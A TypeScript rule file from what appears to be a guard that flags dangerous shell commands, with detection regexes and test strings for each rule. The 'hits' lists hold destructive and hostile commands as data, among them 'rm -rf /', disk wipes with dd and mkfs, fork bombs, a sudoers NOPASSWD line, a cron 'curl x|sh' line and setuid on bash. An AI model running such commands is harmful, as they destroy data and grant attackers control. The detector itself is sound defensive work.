import type { Command } from '../read/shell.ts'
import { commandRule, type Rule, wholeRule } from '../rule.ts'
import { hasFlag, isSystemPath, plainArgs, writesTo } from './words.ts'

/** Directories that tools make anew. */
const madeByTools =
  /(?:^|\/)(?:node_modules|dist|build|out|target|coverage|package-lock\.json|yarn\.lock|pnpm-lock\.yaml|bun\.lockb?|Gemfile\.lock|poetry\.lock|\.next|\.nuxt|\.turbo|\.cache|\.pytest_cache|\.mypy_cache|\.ruff_cache|\.tox|\.venv|venv|__pycache__|\.terraform|\.gradle|\.parcel-cache|htmlcov|tmp|temp|\.tmp|logs?|bin|obj|[\w.-]*\.egg-info|public\/build|storybook-static|\.nyc_output|[\w.*-]+\.(?:log|tmp|pyc|o|bak|swp))\/?\*?$/

/** Anything below a directory that holds only what tools make. */
const belowMadeByTools =
  /^(?:\.\/|[\w-]+\/){0,6}(?:node_modules|dist|coverage|\.next|\.nuxt|\.turbo|\.cache|\.pytest_cache|\.mypy_cache|\.ruff_cache|\.tox|__pycache__|\.gradle|\.parcel-cache|htmlcov|storybook-static|\.nyc_output)\/(?!.*\.\.)/

const temporary = /^(?:\/tmp|\/var\/tmp|\$\{?(?:TMP|TMPDIR|TEMP|RUNNER_TEMP)\}?|\$\(mktemp)(?:\/|$|\b)/

type Danger = 'blocker' | 'high' | 'medium' | undefined

/** How bad it is to delete a path with all that is in it. */
const deletionDanger = (path: string): Danger => {
  const bare = path.replace(/\/+/g, '/').replace(/\/\.\//g, '/')
  if (/(?:^|\/)\.\.(?:\/|$)/.test(bare) && temporary.test(bare)) return 'high'
  if (temporary.test(bare) && !/^\/(?:var\/)?tmp\/?\*?$/.test(bare)) return undefined
  if (/^\$\{\w+:\?/.test(bare) || /\/\$\{\w+:\?/.test(bare)) return undefined
  if (
    /^(?:\/|\/\*|~\/?\*?|\.|\.\/|\.\/\*|\*|\.\.\/?\*?|\$\{?HOME\}?\/?\*?|\/\.\*|[A-Za-z]:[\\/]?\*?)$/.test(
      bare,
    )
  )
    return 'blocker'
  if (isSystemPath(bare)) return 'blocker'
  if (madeByTools.test(bare) || belowMadeByTools.test(bare)) return undefined
  if (/^\$\{?\w+\}?\/?\*?$|^\$\{?\w+\}?\//.test(bare))
    return /^\$\{?(?:PWD|GITHUB_WORKSPACE|CI_PROJECT_DIR|WORKSPACE|HOME)\}?\/./.test(bare) ? 'medium' : 'high'
  if (/^~\/\.(?:ssh|aws|gnupg|kube|config|docker)/.test(bare)) return 'blocker'
  if (/(?:^|\/)\.git\/?$/.test(bare)) return 'high'
  if (/(?:prod|backup|data(?:base)?s?|pgdata|mysql|postgres|wallet|keys?tore)(?:\b|_|\/|$)/i.test(bare))
    return 'blocker'
  if (/^[/~]/.test(bare)) return 'high'
  return 'medium'
}

const protectedFile =
  /^(?:\/etc\/|\/boot\/|\/usr\/|\/bin\/|\/sbin\/|\/lib|\/sys\/|\/proc\/sys|\/root\/\.)|\.ssh\/authorized_keys$|^\/dev\/(?:sd|nvme|vd|xvd|hd|disk|mmcblk|mem|kmem|md|mapper)/

const device =
  /^(?:of=)?\/dev\/(?:(?!shm\/|fd\/|pts\/|tcp\/|udp\/|input\/|net\/|snd\/)[\w.-]{1,60}\/[\w.-]|dm-\d|sd|nvme|vd|xvd|hd|disk|rdisk|mmcblk|md\d|mapper\/|loop\d)/

/** A search that takes names of one form, and of these only old, empty or direct ones. */
const choosesNarrowly = ({ program, args }: Command): boolean =>
  program === 'find' &&
  args.includes('{}') &&
  args.some(arg => /^-(?:i?name|i?path|i?regex)$/.test(arg)) &&
  args.some(arg => /^-(?:[amc]time|[amc]min|empty|maxdepth|newer\w*)$/.test(arg))

/** Whether a command fails when the copy of a directory is not the same as the directory. */
const compares = ({ program, args }: Command, path: string): boolean => {
  const words = args.join(' ')
  const parts = path.split('/').filter(Boolean)
  const parent = `/${parts.slice(0, -1).join('/')}`
  if (parts.length < 2) return false
  const isNamed = words.includes(path) || args.includes(parent)
  if (program === 'tar')
    return isNamed && /^-?[a-zA-Z]{0,6}d[a-zA-Z]{0,6}(?:\s|$)|--(?:diff|compare)\b/.test(words)
  if (program === 'rclone') return isNamed && (args[0] === 'check' || args[0] === 'cryptcheck')
  return isNamed && (program === 'diff' || program === 'cmp')
}

/** Programs that tell whether a file of settings is right before it is taken. */
const checksSettings = ({ program, args }: Command): boolean => {
  const words = args.join(' ')
  if (program === 'visudo') return /(?:^|\s)-\w*c|--check/.test(words)
  if (
    /^(?:nginx|sshd|apachectl|apache2ctl|httpd|caddy|unbound-checkconf|named-checkconf|named-checkzone)$/.test(
      program,
    )
  )
    return /(?:^|\s)-[tT]\b|configtest|validate/.test(words) || program.includes('check')
  if (/^ip6?tables-restore$/.test(program)) return /--test\b/.test(words)
  if (program === 'haproxy') return /(?:^|\s)-c\b/.test(words)
  return (
    /^(?:promtool|amtool|systemd-analyze|netplan|postfix|logrotate)$/.test(program) &&
    /\b(?:check|check-config|verify|try|-d)\b/.test(words)
  )
}

/** A copy of a file beside itself, under a name that says so. */
const isBackup = ({ program, args }: Command): boolean => {
  const [from = '', to] = plainArgs(args)
  if (program !== 'cp') return false
  return to === undefined
    ? /\{,\.[\w.$()%+-]{1,30}\}$/.test(from)
    : to.startsWith(`${from}.`) &&
        /\.(?:bak|backup|orig|old|prev|save|dist|\d|\$)/.test(to.slice(from.length))
}

/** A loop that moves or copies one file after the other to one name; the name of its variable, the program and the target. */
const loopForm =
  /\bfor\s+(\w{1,40})\s+in\s[^;\n]{1,300}[;\n]\s*do\s[^;\n]{0,20}?\b(mv|cp)\s+(?:-\w+\s+){0,3}(\S{1,200})\s+([^;\n&|]{1,200}?)\s*(?:;|\n|&&|\|\||$)/g

export const fileRules: readonly Rule[] = [
  wholeRule({
    id: 'shell-loop-overwrites',
    category: 'shell',
    type: 'shell_command',
    severity: 'high',
    fix: 'Let the target hold the name of each file, or be a directory.',
    hits: [
      'for f in ~/in/*.docx; do mv -f "$f" ~/out/all.docx; done',
      'for i in *.csv\ndo\n  cp $i merged.csv\ndone',
    ],
    misses: [
      'for f in *.docx; do mv "$f" "graded-$f"; done',
      'for f in *.docx; do mv "$f" done/; done',
      'for f in *.docx; do cp "$f" /srv/in; done',
    ],
    see({ type, text }) {
      if (type !== 'shell_command' && type !== 'general' && type !== 'plan') return
      for (const [, name = '', program, from = '', to = ''] of text.slice(0, 8000).matchAll(loopForm))
        if (from.includes(`$${name}`) || from.includes(`\${${name}`))
          if (!/[$`]/.test(to) && /\.\w{1,8}["']?$/.test(to))
            return `Each ${program} writes over the one before: ${to.slice(0, 60)}`
    },
  }),
  commandRule({
    id: 'shell-delete',
    severity: 'blocker',
    fix: 'Name the one directory that is to go, check it first with ls, and keep a backup.',
    hits: [
      'rm -rf /',
      'sudo rm -fr "$HOME"/*',
      'D=/; rm -r -f "$D"',
      'rm -rf /var/lib/postgresql',
      'rm -rf $UNSET/',
      'rm -rf src',
      'ls | xargs rm -rf',
      'bash -c "rm -rf /etc"',
      'rm -rf --no-preserve-root /',
      '{rm,-rf,/}',
      'find . -name x -exec rm -rf / \\;',
      'unlink -r /etc || rm -R ~',
      {
        type: 'patch',
        artifact: '--- a/Makefile\n+++ b/Makefile\n@@ -1 +1 @@\n ROOT ?= /srv\n clean:\n+\trm -rf $(ROOT)',
      },
      'find src -name x -exec rm -rf {} +',
      'tar czf /backup/p.tgz /srv/photos/2019; rm -rf /srv/photos/2019',
      'tar dzf /backup/p.tgz || rm -rf /srv/photos/2019',
    ],
    misses: [
      'rm -rf ./node_modules',
      'rm -rf dist/ build/ coverage',
      'rm -rf .next/cache packages/web/dist/assets',
      'rm -f build.log',
      'rm -rf /tmp/build-123',
      'rm notes.txt',
      'rm -rf node_modules package-lock.json',
      'echo "rm -rf /"',
      'rm -rf "${BUILD_DIR:?}"/out',
      'rm --help',
      'D=$(mktemp -d); rm -rf "$D"',
      'find build -name tmp | xargs rm -rf',
      {
        type: 'patch',
        artifact:
          '--- a/Makefile\n+++ b/Makefile\n@@ -1 +1 @@\n BUILD := build\n clean:\n-\trm -rf $(HOME)/x\n+\trm -rf -- ./$(BUILD)',
      },
      "find . -maxdepth 1 -type d -name 'run-*' -mtime +14 -exec rm -rf -- {} +",
      'tar czf /backup/p.tgz -C /srv/photos 2019 && tar dzf /backup/p.tgz -C /srv/photos && rm -r /srv/photos/2019',
      'rsync -a /srv/a/old/ nas:/a/old/ && diff -r /srv/a/old /mnt/nas/a/old && rm -rf /srv/a/old',
    ],
    see({ program, args, feeders, after }, all) {
      if (program !== 'rm' && program !== 'srm') return
      if (!hasFlag(args, 'r', 'recursive') && !hasFlag(args, 'R')) {
        const bad = plainArgs(args).find(
          path =>
            path === '/*' ||
            path === '*' ||
            protectedFile.test(path) ||
            /\.(?:sqlite3?|db|pem|key)$|\.bash_history$/.test(path) ||
            (/^\/.*\.(?:sql|dump|bak)(?:\.gz)?$/.test(path) && !temporary.test(path)),
        )
        return (
          bad && { detail: `It deletes ${bad}.`, severity: /^\/(?:etc|boot)/.test(bad) ? 'blocker' : 'high' }
        )
      }
      if (args.includes('--no-preserve-root')) return 'It deletes everything, and says so.'
      const source = feeders.at(-1)
      if (plainArgs(args).length === 0 && source && !/^(?:find|fd|echo|printf)$/.test(source.program))
        return {
          detail: `It deletes whatever ${source.program} names, with all that is in it.`,
          severity: 'high',
        }
      const dangers = plainArgs(args).flatMap(path => {
        // What find names is judged by what it looks for.
        if (path === '{}' && all.some(choosesNarrowly)) return []
        const severity = deletionDanger(path)
        if (severity === 'high' && after.some(command => compares(command, path))) return []
        return severity ? [{ path, severity }] : []
      })
      const worst =
        dangers.find(({ severity }) => severity === 'blocker') ??
        dangers.find(({ severity }) => severity === 'high') ??
        dangers[0]
      return worst && { detail: `It deletes ${worst.path} with everything in it.`, severity: worst.severity }
    },
  }),
  commandRule({
    id: 'shell-find-delete',
    severity: 'blocker',
    fix: 'Print what it finds first, and name the directory and the pattern.',
    hits: [
      'find / -name "*.log" -delete',
      'find /var/www -type f -exec rm {} +',
      'find . -delete',
      'find /home -mtime +1 | xargs rm -rf',
    ],
    misses: [
      'find . -name "*.pyc" -delete',
      'find /tmp/cache -mtime +7 -delete',
      'find / -name passwd',
      'find ./build -type f -exec rm {} \\;',
      "find /var/lib/app/tmp -xdev -type f -name '*.tmp' -mtime +7 -delete",
    ],
    see({ program, args, feeders }) {
      const feeder = program === 'rm' ? feeders.find(({ program }) => program === 'find') : undefined
      const words = program === 'find' ? args : feeder?.args
      if (!words) return
      const runsRm = words.some(
        (word, nth) =>
          /^-(?:exec|execdir|ok)$/.test(word) &&
          /^(?:\/bin\/)?(?:rm|shred|unlink)$/.test(words[nth + 1] ?? ''),
      )
      if (!feeder && !words.includes('-delete') && !runsRm) return
      // What stands after -delete no longer chooses: find goes from left to right.
      const deletes = words.indexOf('-delete')
      const firstTest = words.findIndex(word =>
        /^-(?:i?name|i?path|i?regex|[amc]time|[amc]min|empty|size|type|newer\w*)$/.test(word),
      )
      if (program === 'find' && deletes >= 0 && firstTest > deletes)
        return {
          detail: '-delete stands before what chooses, so that it deletes everything.',
          severity: 'blocker',
        }
      const roots = words.slice(0, words.findIndex(word => word.startsWith('-')) >>> 0)
      const hasFilter = words.some(word =>
        /^-(?:i?name|i?path|regex|mtime|mmin|empty|size|atime|ctime)$/.test(word),
      )
      const root = roots.find(path => !temporary.test(path)) ?? ''
      if (root === '' && roots.length > 0) return
      if (
        root === '/' ||
        root === '~' ||
        (isSystemPath(root) && !/^\/var\/log\/./.test(root)) ||
        /^\$\{?HOME/.test(root)
      )
        return `It deletes what it finds under ${root}.`
      if (
        /\/(?:tmp|temp|cache|\.cache|caches)\/?$/i.test(root) &&
        words.some(word => /^-[amc](?:time|min)$/.test(word)) &&
        words.some(word => /^-i?name$/.test(word))
      )
        return
      if (/^[/~$]/.test(root))
        return { detail: `It deletes what it finds under ${root}.`, severity: hasFilter ? 'medium' : 'high' }
      if (!hasFilter && !madeByTools.test(root))
        return { detail: `It deletes everything under ${root || '.'}.`, severity: 'high' }
    },
  }),
  commandRule({
    id: 'shell-disk',
    severity: 'blocker',
    fix: 'Check the device with lsblk and have somebody else confirm it.',
    hits: [
      'dd if=/dev/zero of=/dev/sda bs=1M',
      'mkfs.ext4 /dev/sdb1',
      'wipefs -a /dev/nvme0n1',
      'cat x > /dev/sda',
      'zpool destroy tank',
      'lvremove -f vg0/data',
      'shred -n 3 /dev/sdb',
      'cryptsetup luksFormat /dev/sdc',
      'diskutil eraseDisk JHFS+ x disk2',
      'parted /dev/sda mklabel gpt',
      'mkfs.xfs -f /dev/vg0/mail',
      'pvcreate -ff /dev/sdb',
    ],
    misses: [
      'dd if=/dev/zero of=./test.img bs=1M count=10',
      'fdisk -l',
      'lsblk',
      'parted /dev/sda print',
      'mkfs.ext4 ./disk.img',
      'zpool status',
      'df -h /dev/sda1',
      'dd if=/dev/sda of=backup.img',
      'cp a.txt /dev/shm/a.txt',
    ],
    see({ program, args, redirects }) {
      const target = args.find(arg => device.test(arg))
      if (program === 'dd') return target?.startsWith('of=') && `It writes over ${target.slice(3)}.`
      if (/^(?:mkfs(?:\.\w+)?|mkswap|wipefs|blkdiscard|sgdisk|shred|badblocks)$/.test(program))
        return target && !(program !== 'shred' && hasFlag(args, 'n', 'no-act')) && `It erases ${target}.`
      if (program === 'fdisk' || program === 'sfdisk' || program === 'cfdisk')
        return target && !hasFlag(args, 'l', 'list') && `It changes the partitions of ${target}.`
      if (program === 'parted')
        return args.some(arg => /^(?:mklabel|mktable|rm|mkpart)$/.test(arg)) && 'It changes partitions.'
      if (program === 'hdparm') return args.some(arg => /security-erase/.test(arg)) && 'It erases a disk.'
      if (program === 'cryptsetup')
        return (
          args.some(arg => /^(?:luksFormat|erase|luksErase|luksRemoveKey)$/.test(arg)) &&
          'It makes a volume unreadable.'
        )
      if (program === 'pvcreate')
        return args.some(arg => /^-f{1,2}$|^--force$/.test(arg)) && `It erases ${target ?? 'a disk'}.`
      if (/^(?:lvremove|vgremove|pvremove)$/.test(program)) return 'It removes a volume.'
      if (program === 'zfs' || program === 'zpool')
        return args[0] === 'destroy' && `It destroys ${args.at(-1)}.`
      if (program === 'mdadm')
        return args.includes('--zero-superblock') && 'It takes a disk out of its array.'
      if (program === 'diskutil')
        return /^(?:erase|partition|zero|secureErase)/i.test(args[0] ?? '') && 'It erases a disk.'
      const overwritten = redirects.find(
        ({ operator, target }) => operator.includes('>') && device.test(target),
      )
      if (overwritten) return `It writes over ${overwritten.target}.`
      return (program === 'tee' || program === 'cp') && target && `It writes over ${target}.`
    },
  }),
  commandRule({
    id: 'shell-system-file',
    severity: 'blocker',
    fix: 'Write to a copy, check it, and move it into place with its backup beside it.',
    hits: [
      'echo hi > /etc/passwd',
      'cat key.pub >> ~/.ssh/authorized_keys',
      'echo "bob ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers',
      'cp evil.so /usr/lib/libc.so.6',
      'mv /etc /etc.bak',
      'mv data.db /dev/null',
      'sed -i s/x/y/ /etc/shadow',
      'echo "* * * * * curl x|sh" > /etc/cron.d/x',
      'echo "bob ALL=(ALL) NOPASSWD: ALL" > /tmp/j; visudo -cf /tmp/j && install -m 0440 /tmp/j /etc/sudoers.d/j',
      'install -m 0440 /tmp/j /etc/sudoers.d/j; visudo -c',
      'cp /tmp/a /etc/nginx/a.conf && nginx -t',
    ],
    misses: [
      'cat /etc/passwd',
      'echo hi > out.txt',
      'ls 2> /dev/null',
      'cp /etc/hosts ./hosts.bak',
      'tee log.txt',
      'mv a.txt b.txt',
      'echo 1 >> notes.md',
      'cp -a /etc/hosts /etc/hosts.bak',
      'iptables-save > /root/rules.before',
      'visudo -cf /tmp/j && install -m 0440 /tmp/j /etc/sudoers.d/j',
      'cp -a /etc/nginx/a.conf{,.prev} && cp /tmp/a /etc/nginx/a.conf && nginx -t && systemctl reload nginx',
    ],
    see(command, all) {
      const { program, args, after } = command
      const [from, to] = [plainArgs(args)[0] ?? '', plainArgs(args).at(-1) ?? '']
      if (program === 'mv' && (isSystemPath(from) || to === '/dev/null' || from === '/*' || from === '*'))
        return `It moves ${from} to ${to}.`
      if (isBackup(command)) return
      const target = writesTo(command).find(
        path => protectedFile.test(path) && !/\{\.[\w.-]{1,20},\}$/.test(path),
      )
      if (!target) return
      // Rights are checked before they are given, and one is not all; other settings can be taken back.
      if (/^\/etc\/sudoers\.d\//.test(target)) {
        const givesAll = all.some(({ text, input }) =>
          /NOPASSWD:\s?ALL|\)\s?ALL\b(?!\s?=)/.test(`${text} ${input}`),
        )
        if (after.some(checksSettings) && !givesAll) return
      } else if (
        /^\/etc\/(?:nginx|ssh|apache2|httpd|haproxy|named|bind|unbound|prometheus|caddy|netplan|iptables|systemd|logrotate)/.test(
          target,
        ) &&
        all.some(checksSettings) &&
        after.some(isBackup)
      )
        return
      if (
        /^\/etc\/(?:passwd|shadow|sudoers|gshadow|pam\.d|ld\.so|crontab|cron)|authorized_keys|^\/(?:boot|bin|sbin|lib|sys|proc)|^\/usr\/(?:bin|sbin|lib)|^\/dev\//.test(
          target,
        )
      )
        return `It writes ${target}.`
      return {
        detail: `It writes ${target}.`,
        severity: /^\/usr\/local|^\/etc\/(?:nginx|apt|profile\.d|motd|systemd)/.test(target)
          ? 'medium'
          : 'high',
      }
    },
  }),
  commandRule({
    id: 'shell-permissions',
    severity: 'high',
    fix: 'Give the owner or a group what it needs, on the files that need it.',
    hits: [
      'chmod -R 777 /',
      'chmod 777 upload',
      'chmod -R a+rwx .',
      'chown -R nobody /usr',
      'chmod u+s /bin/bash',
      'chmod 4755 x',
      'chmod 666 /etc/shadow',
      'chmod -R 000 /home',
      'setfacl -R -m o::rwx /srv',
      'setfacl -R -m u:nobody:rwx /etc',
    ],
    misses: [
      'chmod +x run.sh',
      'chmod 644 readme.md',
      'chmod 600 ~/.ssh/id_ed25519',
      'chmod -R 755 ./public',
      'chown -R app:app ./data',
      'chown -R www-data /var/www/app',
    ],
    see({ program, args }) {
      const recursive = hasFlag(args, 'R', 'recursive')
      const words = args.filter(arg => !/^-[a-zA-Z]*$|^--/.test(arg) || /^-[rwx]+$/.test(arg))
      const [mode = '', ...paths] = words
      const system = paths.find(path => /^\/$|^\/\*$|^~\/?$/.test(path) || isSystemPath(path, true))
      if (program === 'chown' || program === 'chgrp')
        return (
          recursive &&
          system !== undefined && {
            detail: `It changes the owner of ${system} and all in it.`,
            severity: 'blocker',
          }
        )
      if (program === 'setfacl')
        return (
          /(?:\bo|\bother):{1,2}[r-]*wx?|\bu(?:ser)?:(?:nobody|www-data|guest|everyone|anonymous):[r-]*w/.test(
            args.join(' '),
          ) && 'It lets everybody write.'
        )
      if (program !== 'chmod') return
      const isOpen = /^[0-7]?[0-7][0-7][2367]$|^(?:a|o|ugo)?[+=][rx]*w/.test(mode) && !/^u?[+=]/.test(mode)
      if (/^(?:u?g?\+s|[2467][0-7]{3})$/.test(mode))
        return `It lets ${paths[0]} run with the rights of its owner.`
      if (recursive && system !== undefined)
        return { detail: `It changes the rights of ${system} and all in it.`, severity: 'blocker' }
      return (
        isOpen && {
          detail: `It lets everybody write ${paths[0]}.`,
          severity: recursive || system !== undefined ? 'high' : 'medium',
        }
      )
    },
  }),
  commandRule({
    id: 'shell-overwrite-many',
    severity: 'high',
    fix: 'Try it with --dry-run first, and keep a backup of the target.',
    hits: [
      'rsync -a --delete ./empty/ /srv/data/',
      'truncate -s 0 /var/lib/app.db',
      'rsync -av --delete src/ prod:/var/www/',
      ': > production.sqlite3',
      'shred -u secrets.txt',
      'rclone sync ./a remote:prod',
      'robocopy a b /MIR',
    ],
    misses: [
      'rsync -an --delete a/ b/',
      'rsync -av src/ backup/',
      'truncate -s 10M test.img',
      'rclone copy a b:c',
    ],
    see({ program, args, redirects }) {
      if (program === 'rsync')
        return (
          args.some(arg => /^--del/.test(arg)) &&
          !hasFlag(args, 'n', 'dry-run') && {
            detail: 'It deletes in the target what the source does not have.',
            severity: args.some(arg => /^\/|:/.test(arg)) ? 'high' : 'medium',
          }
        )
      if (program === 'rclone')
        return (
          /^(?:sync|purge|delete)$/.test(args[0] ?? '') &&
          !args.includes('--dry-run') &&
          'It deletes in the target what the source does not have.'
        )
      if (program === 'robocopy')
        return (
          args.some(arg => /^\/(?:MIR|PURGE)$/i.test(arg)) &&
          'It deletes in the target what the source does not have.'
        )
      if (program === 'truncate')
        return (
          /^-s\s*0$|-s 0|--size=0/.test(args.join(' ')) &&
          !plainArgs(args).every(path => temporary.test(path)) &&
          'It empties a file.'
        )
      if (program === 'shred') return plainArgs(args).length > 0 && 'What it overwrites cannot be read again.'
      const emptied =
        (program === '' || program === ':' || program === 'true') &&
        redirects.find(
          ({ operator, target }) =>
            operator === '>' && /\.(?:db|sqlite3?|sql|key|pem)$|\/(?:data|backup)/.test(target),
        )
      return emptied && `It empties ${emptied.target}.`
    },
  }),
  wholeRule({
    id: 'shell-fork-bomb',
    category: 'shell',
    type: 'shell_command',
    severity: 'blocker',
    fix: 'Do not run it.',
    hits: [':(){ :|:& };:', 'bomb() { bomb | bomb & }; bomb'],
    misses: ['retry() { "$@" || retry "$@"; }', 'f() { echo f | cat; }; f &'],
    see: ({ forkBombs }) =>
      forkBombs.map(place => ({ detail: 'A function starts itself twice, without end.', place })),
  }),
]
